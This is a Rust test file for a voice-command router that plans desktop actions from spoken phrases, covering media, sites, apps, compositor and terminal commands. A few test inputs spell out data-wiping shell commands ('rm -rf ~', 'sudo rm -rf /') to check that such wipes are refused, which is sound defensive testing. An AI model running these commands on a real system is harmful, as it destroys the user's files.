//! The cascade's tests: utterances planned end to end through [`super::plan_steps`].

use super::*;
use crate::apps::AppEntry;
use crate::explain::{MAX_CLOSE_NAMES, explain};
use crate::phrases::{Curated, PhraseTable};
use crate::plan::{APP_VERBS, AppLookup};
use crate::sites::Catalog;
use crate::text::{normalize, strip_fillers};

fn apps() -> Vec<AppEntry> {
    vec![
        AppEntry::new("firefox", "Firefox", Some("Web Browser"), &["internet"])
            .with_wm_class("firefox"),
        AppEntry::new("marker-writer", "Marker Writer", None, &[]),
        AppEntry::new("org.gnome.Calendar", "Calendar", None, &["events"]),
        AppEntry::new("spotify", "Spotify", Some("Music Player"), &[]),
        AppEntry::new("youtube-app", "YouTube", None, &[]),
    ]
}

/// The built-in catalog, parsed once for all tests.
fn catalog() -> &'static Catalog {
    static CATALOG: std::sync::OnceLock<Catalog> = std::sync::OnceLock::new();
    CATALOG.get_or_init(|| Catalog::builtin().expect("built-in catalog"))
}

/// The built-in phrases, parsed once for all tests.
fn curated() -> &'static Curated {
    static CURATED: std::sync::OnceLock<Curated> = std::sync::OnceLock::new();
    CURATED.get_or_init(|| Curated::builtin().expect("built-in phrases"))
}

fn run(utterance: &str) -> Option<Matched> {
    run_with(utterance, None, &PhraseTable::new())
}

fn run_with(utterance: &str, context: Option<&Context>, binds: &PhraseTable) -> Option<Matched> {
    let normalized = normalize(utterance);
    let apps = apps();
    let sources = Sources {
        catalog: catalog(),
        apps: &apps,
        curated: curated(),
        binds,
        context,
        utterance,
        profiles: crate::plan::builtin_profiles(),
        words: crate::plan::builtin_words(),
    };
    plan(strip_fillers(&normalized), &sources)
}

fn summary(utterance: &str) -> Option<(&'static str, &'static str, Value)> {
    run(utterance).map(|m| (m.rule, m.op, m.args))
}

fn media_of(utterance: &str) -> Option<Value> {
    match summary(utterance) {
        Some(("media", "media", args)) => Some(args),
        _ => None,
    }
}

#[test]
fn media_commands() {
    let cases = [
        ("play", "play"),
        ("Resume.", "play"),
        ("unpause the music", "play"),
        ("pause", "pause"),
        ("Pause!", "pause"),
        ("please pause the video", "pause"),
        ("stop", "stop"),
        ("stop playing", "stop"),
        ("next", "next"),
        ("next track", "next"),
        ("Next song, please.", "next"),
        ("skip", "next"),
        ("skip this song", "next"),
        ("play the next track", "next"),
        ("previous", "previous"),
        ("previous track", "previous"),
        ("previous song", "previous"),
        ("go back a track", "previous"),
        ("play pause", "play_pause"),
        ("play/pause", "play_pause"),
        ("toggle playback", "play_pause"),
        ("hey utter, could you play?", "play"),
    ];
    for (utterance, command) in cases {
        assert_eq!(
            media_of(utterance),
            Some(json!({"command": command})),
            "{utterance}"
        );
    }
}

#[test]
fn media_with_a_player() {
    let cases = [
        ("pause spotify", "pause", "spotify"),
        ("Pause Spotify.", "pause", "spotify"),
        ("play on spotify", "play", "spotify"),
        ("next track on VLC", "next", "vlc"),
        ("pause the music in the mpv", "pause", "mpv"),
        ("pause on my player", "pause", "my player"),
        ("skip in firefox", "next", "firefox"),
    ];
    for (utterance, command, player) in cases {
        assert_eq!(
            media_of(utterance),
            Some(json!({"command": command, "player": player})),
            "{utterance}"
        );
    }
}

#[test]
fn things_that_are_not_media() {
    for utterance in [
        "play despacito",
        "play on repeat",
        "back",
        "go back",
        "stop the world",
        "pause my thoughts",
        "next week",
        "skip breakfast",
    ] {
        assert_eq!(summary(utterance), None, "{utterance}");
    }
}

#[test]
fn sites() {
    let cases = [
        ("open youtube", "https://www.youtube.com"),
        ("Open YouTube!", "https://www.youtube.com"),
        ("go to hacker news", "https://news.ycombinator.com"),
        ("visit the GitHub website", "https://github.com"),
        ("show me google maps", "https://www.google.com/maps"),
        ("show maps", "https://www.google.com/maps"),
        ("open gmail please", "https://mail.google.com"),
        ("take me to crates.io", "https://crates.io"),
        ("go to docs dot rs", "https://docs.rs"),
        ("open youtube dot com", "https://www.youtube.com"),
        ("navigate to stackoverflow", "https://stackoverflow.com"),
    ];
    let catalog = Catalog::builtin().expect("the built-in catalog parses");
    for (utterance, url) in cases {
        // The site is named as the catalog writes it, whatever was said.
        let name = catalog
            .sites()
            .iter()
            .find(|s| s.url == url)
            .map(|s| s.name.clone())
            .expect("a catalog site");
        assert_eq!(
            summary(utterance),
            Some(("open_site", "ensure_url", json!({"url": url, "site": name}))),
            "{utterance}"
        );
    }
    assert_eq!(
        summary("open you tube").map(|s| s.2),
        Some(json!({"url": "https://www.youtube.com", "site": "YouTube"}))
    );
    assert_eq!(
        summary("go to hacker news").map(|s| s.2["site"].clone()),
        Some(json!("Hacker News"))
    );
}

#[test]
fn apps_are_launched_with_id_and_name() {
    let cases = [
        ("open marker writer", "marker-writer", "Marker Writer"),
        ("Launch Firefox.", "firefox", "Firefox"),
        ("start the web browser", "firefox", "Firefox"),
        ("run marker writer app", "marker-writer", "Marker Writer"),
        ("open spotify", "spotify", "Spotify"),
    ];
    for (utterance, id, name) in cases {
        assert_eq!(
            summary(utterance),
            Some((
                "launch_app",
                "launch_app",
                json!({"app_id": id, "name": name})
            )),
            "{utterance}"
        );
    }
}

#[test]
fn sites_beat_apps_and_go_to_never_launches() {
    // Both a site and an app are called YouTube: the site wins when its own name is said.
    assert_eq!(summary("open youtube").map(|s| s.0), Some("open_site"));
    // An application named Calendar beats a site Calendar is only another name of.
    assert_eq!(summary("open calendar").map(|s| s.1), Some("launch_app"));
    assert_eq!(summary("open my calendar").map(|s| s.1), Some("launch_app"));
    assert_eq!(
        summary("open google calendar").map(|s| s.0),
        Some("open_site")
    );
    // "launch" is not a site verb, so it reaches the app.
    assert_eq!(
        summary("launch youtube"),
        Some((
            "launch_app",
            "launch_app",
            json!({"app_id": "youtube-app", "name": "YouTube"})
        ))
    );
    // "go to" focuses or starts an application (rule 5); "visit" is for sites only.
    assert_eq!(
        summary("go to marker writer").map(|s| s.0),
        Some("ensure_app")
    );
    assert_eq!(summary("visit firefox"), None);
}

#[test]
fn domains() {
    let cases = [
        ("open example.com", "open_domain", "https://example.com"),
        (
            "visit my-site.co.uk",
            "open_domain",
            "https://my-site.co.uk",
        ),
        ("open example dot org", "open_domain", "https://example.org"),
        (
            "show www.example.net",
            "open_domain",
            "https://www.example.net",
        ),
        // A host that is also in the catalog is found as the site.
        (
            "Go to news.ycombinator.com.",
            "open_site",
            "https://news.ycombinator.com",
        ),
    ];
    for (utterance, rule, url) in cases {
        let matched = summary(utterance);
        assert_eq!(
            matched.as_ref().map(|m| (m.0, m.1, m.2["url"].clone())),
            Some((rule, "ensure_url", json!(url))),
            "{utterance}"
        );
        // A bare host name is its own site name; a catalog host gets the catalog's name.
        let site = matched.map(|m| m.2["site"].clone()).unwrap_or_default();
        if rule == "open_domain" {
            assert_eq!(
                site,
                json!(url.trim_start_matches("https://")),
                "{utterance}"
            );
        } else {
            assert_eq!(site, json!("Hacker News"), "{utterance}");
        }
    }
    // Only plain host names.
    for utterance in [
        "open example",
        "open 1.2.3.4",
        "launch example.com",
        "open example.c0m",
    ] {
        assert_eq!(summary(utterance), None, "{utterance}");
    }
}

#[test]
fn nothing_matches_nonsense_or_bare_verbs() {
    for utterance in [
        "blorp the frobnicator",
        "open",
        "go to",
        "please",
        "",
        "what time is it",
    ] {
        assert_eq!(summary(utterance), None, "{utterance}");
    }
}

#[test]
fn messages_describe_the_step() {
    let m = run("open youtube").expect("match");
    assert_eq!(m.message, "open YouTube (https://www.youtube.com)");
    let m = run("pause spotify").expect("match");
    assert_eq!(m.message, "pause playback on spotify");
    let m = run("open marker writer").expect("match");
    assert_eq!(m.message, "launch Marker Writer (marker-writer)");
}

fn niri_of(utterance: &str) -> Option<Value> {
    match summary(utterance) {
        Some(("compositor", "niri", args)) => Some(args),
        _ => None,
    }
}

fn context(value: Value) -> Context {
    Context::from_param(Some(&value))
        .expect("a valid context")
        .expect("not null")
}

/// The steps planned for `utterance` with a window of `focused` focused (and open).
fn steps_in(utterance: &str, focused: &str) -> Vec<(&'static str, Value)> {
    let ctx = context(json!({
        "focused": {"app_id": focused},
        "windows": [{"app_id": focused}, {"app_id": "foot"}],
    }));
    steps_with(utterance, &apps(), &ctx)
}

/// The steps of `utterance` with these applications installed, in `ctx` (none when it
/// escalates).
fn steps_with(utterance: &str, apps: &[AppEntry], ctx: &Context) -> Vec<(&'static str, Value)> {
    planned_with(utterance, apps, ctx).unwrap_or_default()
}

/// The argument `key` of the first `op` step planned for `utterance` with `focused` focused.
fn arg_in(utterance: &str, focused: &str, op: &str, key: &str) -> Option<Value> {
    steps_in(utterance, focused)
        .into_iter()
        .find(|s| s.0 == op)
        .map(|s| s.1[key].clone())
}

#[test]
fn a_phrase_aimed_at_an_application_focuses_it_first() {
    // "<app> <phrase>", "in <app> <phrase>", "<phrase> into <app>". A key aimed at an open
    // window focuses it itself (its `app`).
    let pressed = steps_in("terminal press enter", "firefox");
    assert_eq!(
        pressed,
        [("key", json!({"chord": "Return", "app": "foot"}))]
    );
    // A scroll or click does not name the window, so it is focused first.
    let scrolled = steps_in("scroll down in the terminal", "firefox");
    assert_eq!(scrolled[0].0, "focus_app", "{scrolled:?}");
    // A command is run as said ("ls -la", not the normalised "ls la"), in the terminal
    // brought up first; a wipe is refused there as anywhere. Text is not planned here.
    let run = steps_in("in the terminal run ls -la", "firefox");
    assert_eq!(run.len(), 2, "{run:?}");
    assert_eq!(run[0].0, "focus_app", "{run:?}");
    assert_eq!(
        run[1],
        ("terminal", json!({"command": "ls -la", "app": "foot"}))
    );
    let up = steps_in("run cd .. in foot", "firefox");
    assert_eq!(
        up.get(1).map(|s| &s.1["command"]),
        Some(&json!("cd ..")),
        "{up:?}"
    );
    let add = steps_in("run git add . in the terminal", "firefox");
    assert_eq!(
        add.get(1).map(|s| &s.1["command"]),
        Some(&json!("git add .")),
        "{add:?}"
    );
    let bare = steps_in("foot git status", "firefox");
    assert_eq!(
        bare.get(1).map(|s| &s.1["command"]),
        Some(&json!("git status")),
        "{bare:?}"
    );
    // Said to the end: the router's refusal of a wipe (lib.rs) reads it whole.
    let wipe = steps_in("in the terminal run rm -rf ~", "firefox");
    assert_eq!(
        wipe.get(1).map(|s| &s.1["command"]),
        Some(&json!("rm -rf ~")),
        "{wipe:?}"
    );
    assert!(steps_in("in the terminal type rm -rf ~", "firefox").is_empty());
    // Without a profile, no common chord for a program run in a terminal (ctrl+z to vim
    // suspends it); an installed application with a window of its own takes it; a key the
    // person names is theirs.
    let vim = [AppEntry::new("vim", "Vim", Some("Text Editor"), &[]).in_terminal()];
    let ctx = context(json!({
        "focused": {"app_id": "firefox"},
        "windows": [{"app_id": "firefox"}, {"app_id": "vim"}],
    }));
    assert!(steps_with("in vim undo", &vim, &ctx).is_empty());
    let undo = steps_in("in calendar undo", "firefox");
    assert_eq!(
        undo.last().map(|s| &s.1["chord"]),
        Some(&json!("ctrl+z")),
        "{undo:?}"
    );
    let enter = steps_in("calendar press enter", "firefox");
    assert_eq!(enter[1].1["chord"], "Return", "{enter:?}");
    assert_eq!(enter[0].0, "ensure_app", "{enter:?}");
    // Two applications named: which one is not known.
    assert!(steps_in("spotify firefox new tab", "foot").is_empty());
    // The terminal's own paste, not the common ctrl+v.
    let pasted = steps_in("paste that into the terminal", "firefox");
    assert_eq!(pasted[0].1["chord"], "ctrl+shift+v", "{pasted:?}");
    // An application named before something that does not act in a window: nothing.
    assert!(steps_in("firefox workspace banana", "foot").is_empty());
    assert!(steps_in("spotify is great", "foot").is_empty());
}

#[test]
fn a_shortcut_said_in_other_words_is_found_by_its_content_words() {
    let chord = |utterance: &str, focused: &str| {
        let steps = steps_in(utterance, focused);
        match steps.as_slice() {
            [("key", args)] => args["chord"].as_str().map(str::to_owned),
            _ => None,
        }
    };
    assert_eq!(
        chord("reopen the tab i just closed", "firefox").as_deref(),
        Some("ctrl+shift+t")
    );
    assert_eq!(
        chord("bring back the closed tab", "firefox").as_deref(),
        Some("ctrl+shift+t")
    );
    assert_eq!(
        chord("zoom out a bit", "firefox").as_deref(),
        Some("ctrl+minus")
    );
    assert_eq!(
        chord("show my history", "firefox").as_deref(),
        Some("ctrl+h")
    );
    // Firefox takes alt+N on Linux; Chromium ctrl+N.
    assert_eq!(
        chord("go to the third tab", "firefox").as_deref(),
        Some("alt+3")
    );
    assert_eq!(
        chord("go to the third tab", "chromium").as_deref(),
        Some("ctrl+3")
    );
    assert_eq!(
        chord("go to the end of the line", "org.gnome.TextEditor").as_deref(),
        Some("End")
    );
    // Said about oneself, it asks for nothing; in a terminal the common chords stay out and
    // its own phrases count (the shell's end of line is ctrl+e, not End).
    assert_eq!(chord("i love this song", "spotify"), None);
    assert_eq!(
        chord("go to the end of the line", "foot").as_deref(),
        Some("ctrl+e")
    );
    assert_eq!(
        chord("stop the running process", "foot").as_deref(),
        Some("ctrl+c")
    );
    assert_eq!(chord("stop the running process", "firefox"), None);
    // Noun phrases and remarks press nothing; nor does more than the most presses.
    for remark in [
        "the undo",
        "my history",
        "save me",
        "forward it to me",
        "the end of the line for me",
        "in zoom",
        "undo fifty times",
        "google it",
        "search that",
    ] {
        assert!(steps_in(remark, "firefox").is_empty(), "{remark}");
    }
    // Repeated: one press, that many times.
    assert_eq!(
        steps_in("undo three times", "org.gnome.TextEditor"),
        [("key", json!({"chord": "ctrl+z", "repeat": 3}))]
    );
}

#[test]
fn a_count_of_what_a_key_moves_over_repeats_it() {
    let cases = [
        (
            "delete the last two words",
            "org.gnome.TextEditor",
            "ctrl+BackSpace",
            2,
        ),
        ("move down four lines", "code", "Down", 4),
        (
            "delete 3 characters",
            "org.gnome.TextEditor",
            "BackSpace",
            3,
        ),
        ("go back two pages", "firefox", "alt+Left", 2),
        // A key said by its name alone, with how many times.
        ("backspace five times", "code", "BackSpace", 5),
        ("arrow up twice", "foot", "Up", 2),
    ];
    for (said, focused, chord, times) in cases {
        assert_eq!(
            steps_in(said, focused),
            [("key", json!({"chord": chord, "repeat": times}))],
            "{said}"
        );
    }
    // One is no repeat, more than the cap is refused, and a count of nothing a key moves
    // over plans nothing.
    for said in [
        "delete the last fifty words",
        "hello five times",
        "two words",
        "backspace",
        "eat three apples",
    ] {
        assert!(steps_in(said, "code").is_empty(), "{said}");
    }
}

#[test]
fn an_agent_says_where_it_runs() {
    let spawn =
        |steps: &[(&str, Value)]| matches!(steps, [("niri", args)] if args["command"] == "spawn");
    assert!(spawn(&steps_in("boot up codex", "firefox")));
    assert!(spawn(&steps_in("start a claude code session", "firefox")));
    assert!(spawn(&steps_in("fire up aider in a terminal", "firefox")));
    // A new terminal asked for: a new window even with one focused.
    assert!(spawn(&steps_in("run codex in a new terminal", "foot")));
    // "here" in a terminal types it there; "here" elsewhere plans nothing.
    let here = steps_in("launch claude code here", "foot");
    assert_eq!(here[0], ("type_text", json!({"text": "claude"})));
    assert!(steps_in("launch claude code here", "firefox").is_empty());
}

#[test]
fn workspace_numbers_and_ordinals() {
    let cases = [
        ("workspace two", 2),
        ("Workspace 2.", 2),
        ("the third workspace", 3),
        ("workspace number 3", 3),
        ("go to workspace 2", 2),
        ("switch to workspace four", 4),
        ("please switch to workspace twenty", 20),
        ("go to the twentieth workspace", 20),
        ("focus workspace twenty one", 21),
        ("jump to the 7th workspace", 7),
        ("show me desktop nine", 9),
        ("go to the second desktop", 2),
        ("workspace 12", 12),
    ];
    for (utterance, n) in cases {
        assert_eq!(
            niri_of(utterance),
            Some(json!({"command": "focus-workspace", "args": [n]})),
            "{utterance}"
        );
    }
    let moves = [
        ("move this to workspace three", 3),
        ("move window to the second workspace", 2),
        ("send it to workspace 5", 5),
        ("move this window to the 3rd workspace", 3),
        ("put this one on workspace 4", 4),
        ("move to workspace number eleven", 11),
    ];
    for (utterance, n) in moves {
        assert_eq!(
            niri_of(utterance),
            Some(json!({"command": "move-window-to-workspace", "args": [n]})),
            "{utterance}"
        );
    }
    for utterance in [
        "workspace zero",
        "workspace",
        "go to workspace 300",
        "the workspace",
    ] {
        assert_eq!(niri_of(utterance), None, "{utterance}");
    }
}

#[test]
fn fixed_compositor_phrases() {
    let cases = [
        ("next workspace", "focus-workspace-down", json!(null)),
        (
            "go to the next workspace",
            "focus-workspace-down",
            json!(null),
        ),
        ("previous workspace", "focus-workspace-up", json!(null)),
        (
            "go back to the last workspace",
            "focus-workspace-previous",
            json!(null),
        ),
        (
            "the other workspace",
            "focus-workspace-previous",
            json!(null),
        ),
        (
            "move this to the next workspace",
            "move-window-to-workspace-down",
            json!(null),
        ),
        (
            "move the window up a workspace",
            "move-window-to-workspace-up",
            json!(null),
        ),
        ("focus left", "focus-column-left", json!(null)),
        ("the window on the left", "focus-column-left", json!(null)),
        ("go right", "focus-column-right", json!(null)),
        ("focus the window below", "focus-window-down", json!(null)),
        ("go up", "focus-window-up", json!(null)),
        ("focus the left monitor", "focus-monitor-left", json!(null)),
        (
            "switch to the right screen",
            "focus-monitor-right",
            json!(null),
        ),
        ("go to the other display", "focus-monitor-next", json!(null)),
        (
            "move this window to the left monitor",
            "move-window-to-monitor-left",
            json!(null),
        ),
        (
            "send it to the screen on the right",
            "move-window-to-monitor-right",
            json!(null),
        ),
        (
            "move window to the top display",
            "move-window-to-monitor-up",
            json!(null),
        ),
        (
            "move this to the bottom screen",
            "move-window-to-monitor-down",
            json!(null),
        ),
        ("maximize", "maximize-column", json!(null)),
        ("Maximise this window!", "maximize-column", json!(null)),
        ("fullscreen", "fullscreen-window", json!(null)),
        ("toggle floating", "toggle-window-floating", json!(null)),
        ("float this window", "move-window-to-floating", json!(null)),
        ("close this window", "close-window", json!(null)),
        ("close it", "close-window", json!(null)),
        ("close window", "close-window", json!(null)),
        ("overview", "toggle-overview", json!(null)),
        ("show the overview", "open-overview", json!(null)),
        ("close the overview", "close-overview", json!(null)),
        ("take a screenshot", "screenshot", json!(null)),
        ("screenshot this window", "screenshot-window", json!(null)),
        (
            "take a screenshot of the whole screen",
            "screenshot-screen",
            json!(null),
        ),
        ("next keyboard layout", "switch-layout", json!(["next"])),
        (
            "switch the keyboard layout",
            "switch-layout",
            json!(["next"]),
        ),
        ("previous keyboard layout", "switch-layout", json!(["prev"])),
    ];
    for (utterance, command, args) in cases {
        let mut want = json!({"command": command});
        if !args.is_null() {
            want["args"] = args;
        }
        assert_eq!(niri_of(utterance), Some(want), "{utterance}");
    }
    let m = run("go to workspace two").expect("match");
    assert_eq!(m.message, "compositor: focus-workspace 2");
    let m = run("next keyboard layout").expect("match");
    assert_eq!(m.message, "compositor: switch-layout \"next\"");
}

#[test]
fn every_curated_phrase_reaches_the_compositor_rule() {
    // Neither the media rule nor a built-in site takes a curated phrase away.
    let phrases: Vec<&str> = curated().table.phrases().collect();
    assert!(phrases.len() > 500, "{} phrases", phrases.len());
    for phrase in phrases {
        let utterance = phrase.replace(crate::phrases::SLOT, "3");
        let m = run(&utterance).unwrap_or_else(|| panic!("{utterance:?} planned nothing"));
        assert_eq!(
            (m.rule, m.op),
            ("compositor", "niri"),
            "{utterance:?}: {m:?}"
        );
    }
}

#[test]
fn conflicts_with_sites_apps_and_media() {
    // A catalog site keeps "go to" and "show".
    assert_eq!(summary("go to youtube").map(|s| s.0), Some("open_site"));
    assert_eq!(summary("show maps").map(|s| s.0), Some("open_site"));
    // Workspace words win over applications, applications over nothing.
    assert_eq!(
        niri_of("switch to workspace 2"),
        Some(json!({"command": "focus-workspace", "args": [2]}))
    );
    assert_eq!(
        summary("switch to firefox"),
        Some((
            "ensure_app",
            "ensure_app",
            json!({"app": "firefox", "desktop_id": "firefox.desktop", "wm_class": "firefox"})
        ))
    );
    assert_eq!(
        summary("bring up the marker writer app"),
        Some((
            "ensure_app",
            "ensure_app",
            json!({"app": "marker-writer", "desktop_id": "marker-writer.desktop"})
        ))
    );
    assert_eq!(summary("focus spotify").map(|s| s.0), Some("ensure_app"));
    // "open" still launches; "close" closes an application, "close this window" the window.
    assert_eq!(summary("open firefox").map(|s| s.0), Some("launch_app"));
    assert_eq!(
        summary("close firefox"),
        Some(("close_app", "close_app", json!({"app": "firefox"})))
    );
    assert_eq!(
        summary("quit the firefox window").map(|s| s.2),
        Some(json!({"app": "firefox"}))
    );
    assert_eq!(
        niri_of("close this window"),
        Some(json!({"command": "close-window"}))
    );
    // Media keeps its words.
    assert_eq!(media_of("next"), Some(json!({"command": "next"})));
    assert_eq!(
        media_of("previous track"),
        Some(json!({"command": "previous"}))
    );
    assert_eq!(
        niri_of("next workspace"),
        Some(json!({"command": "focus-workspace-down"}))
    );
    // A host name is still a host name after a focus verb.
    assert_eq!(
        summary("show example.com").map(|s| s.0),
        Some("open_domain")
    );
    // Unknown names stay unplanned.
    assert_eq!(summary("switch to blorp"), None);
    assert_eq!(summary("close blorp"), None);
}

#[test]
fn in_app_rules_take_no_earlier_phrase() {
    // Every curated phrase, and every site verb with a catalog site's name or an alias,
    // is not an in-app phrase at all: the order does not even have to decide.
    for phrase in curated().table.phrases() {
        let utterance = phrase.replace(crate::phrases::SLOT, "3");
        assert_eq!(inapp::plan(&utterance), None, "{utterance:?}");
    }
    for site in catalog().sites() {
        for verb in SITE_VERBS {
            let utterance = format!("{verb} {}", site.name);
            assert_eq!(inapp::plan(&utterance), None, "{utterance:?}");
        }
    }
    for verb in APP_VERBS
        .iter()
        .copied()
        .chain(curated().focus_verbs.iter().map(String::as_str))
        .chain(curated().close_verbs.iter().map(String::as_str))
    {
        for app in apps() {
            let utterance = format!("{verb} {}", app.name);
            assert_eq!(inapp::plan(&utterance), None, "{utterance:?}");
        }
    }
    // The earlier rules keep their phrases through the whole router.
    let cases = [
        ("pause", "media"),
        ("play", "media"),
        ("next track", "media"),
        ("open youtube", "open_site"),
        ("go to hacker news", "open_site"),
        ("close this window", "compositor"),
        ("take a screenshot", "compositor"),
        ("enter fullscreen", "compositor"),
        ("switch keyboard layout", "compositor"),
        ("focus left", "compositor"),
        ("switch to firefox", "ensure_app"),
        ("close firefox", "close_app"),
        ("open marker writer", "launch_app"),
        ("open example.com", "open_domain"),
    ];
    for (utterance, rule) in cases {
        assert_eq!(summary(utterance).map(|s| s.0), Some(rule), "{utterance}");
    }
    // "type" elsewhere than at the start is not typing.
    for utterance in ["switch keyboard type", "what type is this"] {
        assert_eq!(summary(utterance), None, "{utterance}");
    }
}

#[test]
fn in_app_rules_plan_after_the_others() {
    let cases = [
        (
            "type hello world",
            "type_text",
            json!({"text": "hello world"}),
        ),
        (
            "Type Open YouTube.",
            "type_text",
            json!({"text": "Open YouTube"}),
        ),
        (
            "type close this window",
            "type_text",
            json!({"text": "close this window"}),
        ),
        ("press enter", "key", json!({"chord": "Return"})),
        (
            "press ctrl shift t",
            "key",
            json!({"chord": "ctrl+shift+t"}),
        ),
        (
            "press enter three times",
            "key",
            json!({"chord": "Return", "repeat": 3}),
        ),
        (
            "scroll down",
            "scroll",
            json!({"direction": "down", "amount": 5}),
        ),
        (
            "scroll up a lot",
            "scroll",
            json!({"direction": "up", "amount": 15}),
        ),
        (
            "click the send button",
            "click_element",
            json!({"description": "send button"}),
        ),
        (
            "press the blue button",
            "click_element",
            json!({"description": "blue button"}),
        ),
        ("tap OK", "click_element", json!({"description": "OK"})),
    ];
    for (utterance, rule, args) in cases {
        assert_eq!(summary(utterance), Some((rule, rule, args)), "{utterance}");
        assert_eq!(confirm_of(utterance), Some(false), "{utterance}");
    }
    // Without the raw utterance, the normalised text stands in (lowercase, no
    // punctuation): nothing breaks, only the case is lost.
    let apps = apps();
    let none = PhraseTable::new();
    let sources = Sources {
        catalog: catalog(),
        apps: &apps,
        curated: curated(),
        binds: &none,
        context: None,
        utterance: "",
        profiles: crate::plan::builtin_profiles(),
        words: crate::plan::builtin_words(),
    };
    assert_eq!(
        plan("type hello world", &sources).map(|m| m.args),
        Some(json!({"text": "hello world"}))
    );
}

#[test]
fn in_app_near_misses_are_explained() {
    let none = PhraseTable::new();
    let explained = |utterance: &str| explain_with(utterance, &apps(), None, &none);
    assert!(
        explained("press blorp")
            .unwrap_or_default()
            .starts_with("no key is called \"blorp\""),
    );
    assert!(
        explained("type")
            .unwrap_or_default()
            .contains("needs the text")
    );
    assert!(
        explained("scroll sideways")
            .unwrap_or_default()
            .contains("direction")
    );
    assert!(
        explained("click it")
            .unwrap_or_default()
            .contains("needs the name")
    );
}

#[test]
fn a_command_said_with_sudo_runs_with_sudo_in_the_focused_terminal() {
    for (said, command) in [
        ("sudo apt update", "sudo apt update"),
        ("sudo git pull", "sudo git pull"),
    ] {
        let steps = steps_in(said, "foot");
        assert_eq!(
            steps.first().map(|s| (s.0, s.1["command"].clone())),
            Some(("terminal", json!(command))),
            "{said}: {steps:?}"
        );
    }
    // A wipe said with sudo is still refused.
    assert!(steps_in("sudo rm -rf /", "foot").is_empty());
    // sudo alone, or before words that are no command, plans nothing.
    assert!(steps_in("sudo", "foot").is_empty());
    assert!(steps_in("sudo make me a sandwich please now", "foot").is_empty());
}

#[test]
fn a_step_asked_more_often_than_it_repeats_says_the_limit() {
    let ctx = context(json!({"windows": []}));
    let refused = planned_with("undo 25 times", &apps(), &ctx).unwrap_err();
    assert_eq!(refused.reason, "bad_number", "{refused:?}");
    assert!(
        refused.message.contains("at most 20 times, not 25"),
        "{}",
        refused.message
    );
    let unknown = planned_with("blorp 25 times", &apps(), &ctx).unwrap_err();
    assert_eq!(unknown.reason, "no_rule", "{unknown:?}");
}

#[test]
fn another_window_of_a_profiled_application_without_an_entry_is_spawned() {
    let ctx = context(json!({"windows": []}));
    let steps = steps_with("open another firefox", &[], &ctx);
    assert_eq!(steps.first().map(|s| s.0), Some("niri"), "{steps:?}");
    assert_eq!(steps[0].1["command"], "spawn", "{steps:?}");
    assert_eq!(steps[0].1["args"][0], "firefox", "{steps:?}");
}

#[test]
fn a_shell_command_with_no_terminal_focused_asks_for_one() {
    let none = PhraseTable::new();
    let explained = |utterance: &str| explain_with(utterance, &apps(), None, &none);
    for (said, command) in [("git pull", "git pull"), ("check disk space", "df -h")] {
        let message = explained(said).unwrap_or_default();
        assert!(
            message.contains("shell command") && message.contains(command),
            "{said}: {message}"
        );
    }
    // Words that are no command stay unknown.
    assert_eq!(explained("purple elephant dance"), None);
}

#[test]
fn a_users_binding_beats_an_in_app_phrase() {
    let (binds, _) = crate::niri_config::parse(
        "binds { Mod+Return hotkey-overlay-title=\"Press Enter\" { spawn \"foot\"; }; }\n",
    )
    .expect("parses");
    assert_eq!(
        run_with("press enter", None, &binds).map(|m| m.rule),
        Some("niri_bind")
    );
    assert_eq!(run("press enter").map(|m| m.rule), Some("key"));
}

#[test]
fn compositor_phrases_plan_everywhere() {
    let binds = PhraseTable::new();
    assert!(run_with("workspace two", None, &binds).is_some());
    let niri = context(json!({"compositor": {"name": "niri"}}));
    assert_eq!(
        run_with("workspace two", Some(&niri), &binds).map(|m| m.rule),
        Some("compositor")
    );
    // The compositor plugin maps niri's action names to sway's commands.
    let sway = context(json!({"compositor": {"name": "sway"}, "windows": []}));
    assert_eq!(
        run_with("workspace two", Some(&sway), &binds).map(|m| m.rule),
        Some("compositor")
    );
    assert_eq!(
        run_with("close this window", Some(&sway), &binds).map(|m| m.rule),
        Some("compositor")
    );
    // What is not a niri action still plans on sway.
    assert_eq!(
        run_with("switch to firefox", Some(&sway), &binds).map(|m| m.rule),
        Some("ensure_app")
    );
    assert_eq!(
        run_with("open youtube", Some(&sway), &binds).map(|m| m.rule),
        Some("open_site")
    );
}

#[test]
fn an_exact_app_id_beats_a_looser_one() {
    let binds = PhraseTable::new();
    let focus = |windows: &[&str], utterance: &str| {
        let windows: Vec<Value> = windows.iter().map(|id| json!({"app_id": id})).collect();
        let ctx = context(json!({"windows": windows}));
        run_with(utterance, Some(&ctx), &binds).map(|m| m.args)
    };
    let all = ["x.x", "X-X", "xx"];
    assert_eq!(focus(&all, "switch to xx"), Some(json!({"app": "xx"})));
    assert_eq!(focus(&all, "close xx"), Some(json!({"app": "xx"})));
    assert_eq!(
        focus(&["x.x", "XX"], "switch to xx"),
        Some(json!({"app": "XX"}))
    );
    assert_eq!(
        focus(&["x.x", "X-X"], "switch to xx"),
        Some(json!({"app": "x.x"}))
    );
    // An exact match of the name without "window" beats a loose one of the whole target.
    assert_eq!(
        focus(&["Foot-Window", "foot"], "switch to foot window"),
        Some(json!({"app": "foot"}))
    );
    // A window whose app_id is only separators is never a match.
    assert_eq!(focus(&[".", "-", "..."], "switch to dot"), None);
}

#[test]
fn context_windows_are_matched_by_app_id() {
    let ctx = context(json!({
        "compositor": {"name": "niri"},
        "focused": {"id": 1, "app_id": "foot", "title": "~"},
        "windows": [
            {"id": 1, "app_id": "foot", "title": "~"},
            {"id": 2, "app_id": "Gnome-Terminal", "title": "x"},
            {"id": 3, "app_id": "firefox", "title": "Mail"},
        ],
    }));
    let binds = PhraseTable::new();
    let plan_of =
        |utterance: &str| run_with(utterance, Some(&ctx), &binds).map(|m| (m.rule, m.op, m.args));
    assert_eq!(
        plan_of("switch to foot"),
        Some(("focus_app", "focus_app", json!({"app": "foot"})))
    );
    assert_eq!(
        plan_of("Focus Foot."),
        Some(("focus_app", "focus_app", json!({"app": "foot"})))
    );
    assert_eq!(
        plan_of("go to the gnome terminal window"),
        Some(("focus_app", "focus_app", json!({"app": "Gnome-Terminal"})))
    );
    assert_eq!(
        plan_of("close foot"),
        Some(("close_app", "close_app", json!({"app": "foot"})))
    );
    // An installed application is started or focused by the plugin: ensure_app first.
    assert_eq!(
        plan_of("switch to firefox").map(|p| p.0),
        Some("ensure_app")
    );
    assert_eq!(plan_of("switch to xterm"), None);
    // Without a context no foot window is known: its profile's launch argv starts one.
    assert_eq!(
        summary("switch to foot"),
        Some((
            "ensure_app",
            "ensure_app",
            json!({"app": "foot", "argv": ["foot"]})
        ))
    );
    let m = run_with("switch to foot", Some(&ctx), &binds).expect("match");
    assert_eq!(m.message, "focus the foot window");
}

#[test]
